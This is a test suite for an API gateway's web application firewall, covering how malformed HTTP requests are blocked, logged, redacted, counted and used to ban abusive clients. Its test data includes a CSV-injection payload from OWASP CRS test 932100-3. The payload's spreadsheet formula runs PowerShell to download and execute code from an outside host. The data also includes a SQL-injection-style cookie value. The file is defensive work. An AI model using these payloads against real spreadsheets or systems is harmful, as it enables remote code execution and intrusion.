/**
 * Requests Node's strict HTTP parser refuses (bare LF, invalid header characters) are still
 * refused, but logged, counted and shown to the WAF first: an attack in malformed framing gets
 * 403 in enforce mode, as nginx + ModSecurity answer CRS test 932100-3.
 */
import { test, after, before } from 'node:test';
import assert from 'node:assert/strict';
import * as net from 'node:net';
import { startGateway, waitForLogLines, type TestGateway } from '../helpers/gateway.js';
import { startUpstream, type TestUpstream } from '../helpers/upstream.js';
import type { StageModule } from '../../src/core/stage.js';

/** OWASP CRS 932100-3: a CSV injection in a form body, with bare LF line ends. */
const CSV_INJECTION =
  "POST /index.html HTTP/1.1\nHost: 192.168.1.23\nUser-Agent: curl/7.43.0\nAccept: */*\nContent-Length: 64\nContent-Type: application/x-www-form-urlencoded\nConnection: close\n\nd=1;2;3;4;5\n1;@SUM(1+1)*cmd|' powershell IEX(wget 0r.pe/p)'!A0;3";

/** A catch-all route to the test upstream; `waf` null: no stage keys (a gateway with other modules). */
const yaml = (waf: string | null): string => `version: 1
listeners:
  - port: 0
upstreams:
  app:
    targets:
      - url: {{UP}}
${waf === null ? '' : `waf: ${waf}\n`}routes:
  - id: all
    match:
      prefix: /
    upstream: app
${waf === null ? '' : '    auth: none\n'}`;

let up: TestUpstream;
let enforce: TestGateway;
let monitor: TestGateway;
let off: TestGateway;

before(async () => {
  up = await startUpstream();
  enforce = await startGateway(yaml('{ mode: enforce }'), { vars: { UP: up.url } });
  monitor = await startGateway(yaml('{ mode: monitor }'), { vars: { UP: up.url } });
  off = await startGateway(yaml('{ mode: off }'), { vars: { UP: up.url } });
});
after(async () => {
  await enforce?.close();
  await monitor?.close();
  await off?.close();
  await up?.close();
});

interface RawReply {
  status: number;
  headers: Record<string, string>;
  body: Record<string, unknown> | null;
}

/** Writes raw bytes on a fresh connection and reads the reply until the server closes. */
function raw(port: number, data: string): Promise<RawReply> {
  return new Promise((resolve, reject) => {
    const s = net.connect(port, '127.0.0.1');
    let out = '';
    s.on('data', (d: Buffer) => (out += d.toString('latin1')));
    s.on('error', reject);
    s.on('close', () => {
      const [head = '', body = ''] = out.split('\r\n\r\n');
      const [statusLine = '', ...lines] = head.split('\r\n');
      const headers: Record<string, string> = {};
      for (const l of lines) headers[l.slice(0, l.indexOf(':')).toLowerCase()] = l.slice(l.indexOf(':') + 1).trim();
      resolve({
        status: Number(/^HTTP\/1\.1 (\d{3})/.exec(statusLine)?.[1] ?? 0),
        headers,
        body: body === '' ? null : (JSON.parse(body) as Record<string, unknown>),
      });
    });
    s.write(data, 'latin1');
    setTimeout(() => s.destroy(), 3000).unref();
  });
}

/** The access-log line of the reply (found by its request id). */
async function logLineOf(gw: TestGateway, r: RawReply): Promise<Record<string, unknown>> {
  const id = r.body?.['request_id'];
  assert.equal(typeof id, 'string');
  assert.notEqual(id, '-');
  const lines = await waitForLogLines(gw, (l) => l['request_id'] === id);
  const line = lines.find((l) => l['request_id'] === id);
  assert.ok(line, `no access-log line for ${String(id)}`);
  return line;
}

test('CRS 932100-3 with bare LF line ends is refused with 403 PC_ERR_WAF_BLOCKED and logged with the WAF annotation', async () => {
  const before = up.count();
  const r = await raw(enforce.port, CSV_INJECTION);
  assert.equal(r.status, 403);
  assert.equal(r.headers['content-type'], 'application/problem+json');
  assert.equal(r.headers['connection'], 'close');
  assert.equal(r.body?.['code'], 'PC_ERR_WAF_BLOCKED');
  assert.equal(r.headers['x-request-id'], r.body?.['request_id']);
  const line = await logLineOf(enforce, r);
  assert.equal(line['status'], 403);
  assert.equal(line['method'], 'POST');
  assert.equal(line['path'], '/index.html');
  assert.equal(line['host'], '192.168.1.23');
  assert.equal(line['route_id'], null);
  assert.equal(line['upstream'], null);
  assert.equal(line['client_ip'], '127.0.0.1');
  assert.deepEqual(line['decision'], { stage: 'waf', code: 'PC_ERR_WAF_BLOCKED', reason: 'HPE_INVALID_VERSION' });
  const waf = line['waf'] as { blocked: boolean; score: number; rules: string[] };
  assert.equal(waf.blocked, true);
  assert.ok(waf.score >= 5 && waf.rules.length > 0);
  assert.equal(up.count(), before, 'the upstream was not contacted');
});

test('a benign request with bare LF line ends still gets 400 PC_ERR_PROTOCOL and an access-log line', async () => {
  const r = await raw(enforce.port, 'GET /x HTTP/1.1\nHost: a\n\n');
  assert.equal(r.status, 400);
  assert.equal(r.body?.['code'], 'PC_ERR_PROTOCOL');
  const line = await logLineOf(enforce, r);
  assert.equal(line['status'], 400);
  assert.equal(line['method'], 'GET');
  assert.equal(line['path'], '/x');
  assert.deepEqual(line['decision'], { stage: 'intake', code: 'PC_ERR_PROTOCOL', reason: 'HPE_INVALID_VERSION' });
  assert.equal(line['waf'], undefined);
});

test('a request with an invalid header character gets 400 PC_ERR_PROTOCOL and an access-log line', async () => {
  const r = await raw(enforce.port, 'GET /y HTTP/1.1\r\nHost: a\r\nX-B\x01ad: 1\r\n\r\n');
  assert.equal(r.status, 400);
  assert.equal(r.body?.['code'], 'PC_ERR_PROTOCOL');
  const line = await logLineOf(enforce, r);
  assert.equal(line['path'], '/y');
  assert.deepEqual(line['decision'], { stage: 'intake', code: 'PC_ERR_PROTOCOL', reason: 'HPE_INVALID_HEADER_TOKEN' });
});

test('in monitor mode the attack gets 400 and the access log records what the WAF would have done', async () => {
  const r = await raw(monitor.port, CSV_INJECTION);
  assert.equal(r.status, 400);
  assert.equal(r.body?.['code'], 'PC_ERR_PROTOCOL');
  const line = await logLineOf(monitor, r);
  assert.deepEqual(line['decision'], { stage: 'intake', code: 'PC_ERR_PROTOCOL', reason: 'HPE_INVALID_VERSION' });
  const mon = line['monitor'] as { stage: string; code: string; reason: string }[];
  assert.equal(mon.length, 1);
  assert.equal(mon[0]?.stage, 'waf');
  assert.equal(mon[0]?.code, 'PC_ERR_WAF_BLOCKED');
  assert.equal((line['waf'] as { blocked: boolean }).blocked, true);
});

test('with the WAF off the attack gets 400 PC_ERR_PROTOCOL and no WAF annotation', async () => {
  const r = await raw(off.port, CSV_INJECTION);
  assert.equal(r.status, 400);
  assert.equal(r.body?.['code'], 'PC_ERR_PROTOCOL');
  const line = await logLineOf(off, r);
  assert.equal(line['waf'], undefined);
  assert.equal(line['monitor'], undefined);
});

test('credentials in a malformed request never reach the access log', async () => {
  const r = await raw(
    enforce.port,
    "GET /z?api_key=secret123&q=1 HTTP/1.1\nHost: a\nAuthorization: Bearer secret123\nCookie: sid=secret123' or 1=1 --\nX-Api-Key: secret123\n\n",
  );
  assert.equal(r.status, 403, 'the WAF inspects the cookie (its match is logged redacted)');
  const line = await logLineOf(enforce, r);
  assert.deepEqual((line['waf'] as { targets: string[] }).targets, ['cookie:sid']);
  assert.equal(line['path'], '/z?api_key=[REDACTED]&q=1');
  const text = enforce
    .logLines()
    .map((l) => JSON.stringify(l))
    .join('\n');
  assert.ok(!text.includes('secret123'), 'a secret was logged');
});

test('parser refusals are counted in the request and denial metrics with route (none)', async () => {
  await raw(enforce.port, 'GET /m HTTP/1.1\nHost: a\n\n');
  const m = await (await fetch(`${enforce.adminUrl}/metrics`)).text();
  assert.match(m, /portcullis_requests_total\{route="\(none\)",status_class="4xx",decision="denied"[^}]*\} [1-9]/);
  assert.match(m, /portcullis_denials_total\{stage="intake",code="PC_ERR_PROTOCOL"\} [1-9]/);
  assert.match(m, /portcullis_denials_total\{stage="waf",code="PC_ERR_WAF_BLOCKED"\} [1-9]/);
  // WAF inspection time, by route: parser-refused requests too
  assert.equal((await fetch(`${enforce.url}/ok?q=hello`)).status, 200);
  const m2 = await (await fetch(`${enforce.adminUrl}/metrics`)).text();
  assert.match(m2, /portcullis_waf_duration_seconds_count\{route="all"\} [1-9]/);
  assert.match(m2, /portcullis_waf_duration_seconds_bucket\{le="0\.05",route="all"\} [1-9]/);
  assert.match(m2, /portcullis_waf_duration_seconds_count\{route="\(none\)"\} [1-9]/);
});

test('a stage whose hook throws does not break the reply: the parser error still gets 400', async () => {
  const boom: StageModule = {
    id: 'test.boom',
    phase: 'inspect',
    order: 1,
    create: () => ({
      forRoute: () => null,
      inspectMalformed() {
        throw new Error('boom');
      },
    }),
  };
  const gw = await startGateway(yaml(null), { vars: { UP: up.url }, modules: [boom] });
  try {
    const r = await raw(gw.port, CSV_INJECTION);
    assert.equal(r.status, 400);
    assert.equal(r.body?.['code'], 'PC_ERR_PROTOCOL');
    assert.ok(gw.eventLines().some((l) => l['event'] === 'client_error_failed'));
  } finally {
    await gw.close();
  }
});

test('abuse detection counts parser refusals: a client sending malformed attacks is banned', async () => {
  const gw = await startGateway(
    `${yaml('{ mode: enforce }')}abuse:
  sync_interval_ms: 100
  detectors:
    waf_hits: { threshold: 3, window_ms: 10000, action: ban }
`,
    { vars: { UP: up.url } },
  );
  try {
    assert.equal((await fetch(`${gw.url}/before`)).status, 200);
    const codes: unknown[] = [];
    for (let i = 0; i < 5; i++) codes.push((await raw(gw.port, CSV_INJECTION)).body?.['code']);
    assert.ok(codes.includes('PC_ERR_WAF_BLOCKED'), JSON.stringify(codes));
    // the ban is decided asynchronously (store round trip): allow it a moment
    let banned: unknown = null;
    for (let i = 0; i < 20 && banned !== 'PC_ERR_CLIENT_BANNED'; i++) {
      const r = await fetch(`${gw.url}/after`);
      banned = r.status === 403 ? ((await r.json()) as { code?: string }).code : await r.text().then(() => null);
      if (banned !== 'PC_ERR_CLIENT_BANNED') await new Promise((res) => setTimeout(res, 50));
    }
    assert.equal(banned, 'PC_ERR_CLIENT_BANNED');
  } finally {
    await gw.close();
  }
});
